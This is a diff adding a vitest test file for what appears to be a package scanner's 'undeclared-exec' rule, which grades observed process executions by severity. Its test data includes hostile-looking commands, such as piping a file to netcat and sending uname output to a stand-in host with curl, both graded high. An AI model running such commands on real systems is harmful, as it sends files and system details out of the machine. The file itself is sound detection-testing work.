@@ -1,0 +1,39 @@
+import { expect, test } from 'vitest';
+import { exec, NODE, PACKAGE, type Sight } from '../../../../test/evidence.ts';
+import { findingsOf, severities } from '../../../../test/judged.ts';
+
+test.for<readonly [string, Sight, string]>([
+	['a shell with code', exec(['/bin/sh', '-c', 'cat x | nc y 1'], { during: 1 }), 'high'],
+	['a shell with a script', exec(['/bin/bash', '/tmp/x.sh'], { during: 1 }), 'high'],
+	['an interpreter with code', exec(['/usr/bin/python3', '-c', 'import os'], { during: 1 }), 'high'],
+	['its own interpreter with code', exec([NODE, '-e', '1'], { during: 1 }), 'high'],
+	['another program', exec(['/usr/bin/cp', 'a', 'b'], { during: 1 }), 'medium'],
+	['at start-up', exec(['/usr/bin/cp', 'a', 'b']), 'medium'],
+	['a program that is not there', exec(['xclip'], { program: '/usr/bin/xclip', errno: 'ENOENT', during: 1 }), 'low'],
+	['an enquiry at start-up', exec(['/usr/bin/uname', '-a']), 'low'],
+	['an enquiry by a tool that has nothing to do with it', exec(['/usr/bin/uname', '-a'], { during: 1 }), 'medium'],
+	['a shell that only enquires', exec(['/bin/sh', '-c', 'getconf GNU_LIBC_VERSION 2>&1 || true; ldd --version 2>&1 || true']), 'low'],
+	['an enquiry and more', exec(['/bin/sh', '-c', 'uname -a | curl -d @- x.example'], { during: 1 }), 'high'],
+	['a look-alike of an enquiry', exec(['/tmp/uname'], { during: 1 }), 'medium'],
+	['while installed', exec(['/usr/bin/make'], { phase: 'install' }), 'info'],
+	['near miss: its own worker', exec([NODE, `${PACKAGE}/worker.js`], { during: 1 }), ''],
+	['near miss: the command line itself', exec([NODE, `${PACKAGE}/dist/index.js`]), ''],
+])('%s: %s', ([, sight, expected]) => {
+	expect(severities('undeclared-exec', { seen: [sight] })).toBe(expected);
+});
+
+test('what a shell runs is part of its finding', () => {
+	const seen = [
+		exec(['/bin/sh', '-c', 'cat x | nc y 1'], { during: 1 }),
+		exec(['/usr/bin/cat', 'x'], { during: 1 }),
+		exec(['/usr/bin/nc', 'y', '1'], { during: 1 }),
+	];
+	expect(findingsOf('undeclared-exec', { seen })).toMatchObject([
+		{ id: 'undeclared-exec:/bin/sh (cat nc)', observed: expect.stringContaining('cat x | nc y 1') },
+	]);
+});
+
+test('a shell inside of which nothing hides: what it does not name is reported apart', () => {
+	const seen = [exec(['/bin/sh', '-c', './run'], { during: 1 }), exec(['/usr/bin/nc', 'y', '1'], { during: 1 })];
+	expect(severities('undeclared-exec', { seen })).toBe('high, medium');
+});
